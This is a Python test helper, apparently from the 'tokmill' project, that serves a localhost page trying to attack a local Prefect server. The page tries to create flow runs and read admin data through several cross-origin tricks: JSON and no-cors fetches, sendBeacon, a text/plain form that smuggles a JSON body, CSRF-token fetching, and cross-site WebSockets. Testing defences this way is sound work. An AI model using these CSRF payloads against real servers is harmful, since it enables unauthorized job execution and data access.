"""A foreign web page that attacks the server of `tokmill up`.

It knows everything that an attacker could find out: the port, the deployment's id, and Prefect's API.
"""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

_PAGE = """<!doctype html><title>working</title>
<iframe name="posted"></iframe><iframe id="shown" src="URL/v2/deployments"></iframe>
<form id="form" method="post" enctype="text/plain" target="posted" action="CREATE">
<input name='BODY_START' value='"}'></form>
<script>
const body = BODY, json = {"Content-Type": "application/json"}
const post = (more) => fetch("CREATE", {method: "POST", body: JSON.stringify(body), ...more})
const token = () => fetch("URL/api/csrf-token?client=page").then(answer => answer.json())
const withToken = async () => {
  const headers = {...json, "Prefect-Csrf-Client": "page", "Prefect-Csrf-Token": (await token()).token}
  return post({headers})
}
const socket = (path) => new Promise((done, failed) => {
  const opened = new WebSocket("URL".replace("http", "ws") + path)
  opened.onopen = () => done({ok: true}); opened.onerror = () => failed(new Error("closed"))
})
const tries = {
  settings: () => fetch("URL/api/admin/settings"),
  runs: () => fetch("URL/api/flow_runs/filter", {method: "POST", headers: json, body: "{}"}),
  token, withToken,
  json: () => post({headers: json}),
  blind: () => post({mode: "no-cors", headers: {"Content-Type": "text/plain"}}),  // never ok to the page
  beacon: () => { navigator.sendBeacon("CREATE", new Blob([JSON.stringify(body)])); return {ok: false} },
  form: () => { document.getElementById("form").submit(); return {ok: false} },
  events: () => socket("/api/events/in"),
  logs: () => socket("/api/logs/out"),
}
const outcome = async (attempt) => {
  try { return (await attempt()).ok ?? "answered" } catch (error) { return false }
}
Promise.all(Object.entries(tries).map(async ([name, attempt]) => [name, await outcome(attempt)])).then(
  (ended) => { document.title = JSON.stringify(Object.fromEntries(ended)) })
</script>
"""


class _Threads(ThreadingHTTPServer):
    daemon_threads = False  # waited for, so that every socket is closed


@contextmanager
def hostile_page(url: str, deployment: str, run: dict[str, Any]) -> Iterator[str]:
    """Serve the page on its own port; yields its URL. Its title becomes its results, as JSON.

    Args:
        url: of the server that it attacks.
        deployment: id of the deployment that it wants a run of.
        run: what it asks for.
    """
    body = json.dumps(run)
    replaced = {
        "CREATE": f"{url}/api/deployments/{deployment}/create_flow_run",
        "BODY_START": f'{body[:-1]}, "x": "',
        "BODY": body,
        "URL": url,
    }
    page = _PAGE
    for name, value in replaced.items():
        page = page.replace(name, value)

    class Answer(BaseHTTPRequestHandler):
        timeout = 2  # a browser opens spare connections

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with _Threads(("127.0.0.1", 0), Answer) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()
